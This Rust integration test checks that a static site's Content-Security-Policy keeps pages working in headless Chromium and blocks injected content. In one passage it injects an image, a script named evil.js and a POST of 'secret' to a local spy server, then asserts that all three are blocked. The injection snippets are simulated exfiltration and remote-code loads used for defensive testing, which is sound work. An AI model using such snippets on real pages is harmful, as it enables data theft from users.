//! The Content-Security-Policy of the written pages in headless Chromium:
//! the pages still work (stylesheet, charts, the sorting script), and
//! anything a missed escape could add to a page to load or send is
//! blocked.

mod common;
#[path = "common/sample.rs"]
mod sample;

use std::net::TcpListener;
use std::time::Duration;

use common::cdp::Browser;
use serde_json::json;

#[test]
fn the_policy_keeps_the_site_working_and_blocks_other_hosts() {
    let dir = tempfile::tempdir().unwrap();
    sample::build_ok(&sample::sample(), dir.path());
    // A server the injected content would reach if it were allowed.
    let spy = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = spy.local_addr().unwrap().port();
    spy.set_nonblocking(true).unwrap();

    let mut b = Browser::launch();
    b.open(&format!(
        "file://{}/partners/index.html",
        dir.path().display()
    ));
    assert!(b.errors.is_empty(), "{:?}", b.errors);
    // The stylesheet and the sorting script still run.
    assert_eq!(
        b.eval("getComputedStyle(document.querySelector('.wrap')).display !== '' && document.querySelectorAll('#partners thead th button').length > 3"),
        json!(true)
    );
    b.eval("document.querySelector('#partners thead th button').click()");
    assert_eq!(
        b.eval("document.querySelector('#partners thead th').getAttribute('aria-sort') !== null"),
        json!(true),
        "the sorting script runs"
    );
    // What a missed escape could add: an image, a script, a request.
    b.eval(&format!(
        "window.blocked = [];
         document.addEventListener('securitypolicyviolation', function (e) {{ window.blocked.push(e.violatedDirective + ' ' + e.blockedURI); }});
         var img = document.createElement('img'); img.src = 'http://127.0.0.1:{port}/leak.png?x=1'; document.body.appendChild(img);
         var s = document.createElement('script'); s.src = 'http://127.0.0.1:{port}/evil.js'; document.body.appendChild(s);
         fetch('http://127.0.0.1:{port}/send', {{ method: 'POST', body: 'secret' }}).catch(function () {{}});
         true"
    ));
    assert!(
        b.wait_for("window.blocked.length >= 3", Duration::from_secs(10)),
        "{:?}",
        b.eval("window.blocked")
    );
    let blocked = b.eval("window.blocked.join('\\n')");
    let blocked = blocked.as_str().unwrap();
    for directive in ["img-src", "script-src", "connect-src"] {
        assert!(blocked.contains(directive), "{directive}: {blocked}");
    }
    assert!(spy.accept().is_err(), "nothing reached the other host");

    b.errors.clear();
    // The dashboard's charts still draw.
    b.open(&format!("file://{}/index.html", dir.path().display()));
    assert!(b.errors.is_empty(), "{:?}", b.errors);
    let charts = b.eval("document.querySelectorAll('svg.chart').length");
    assert!(charts.as_u64().unwrap() >= 2, "{charts}");
}
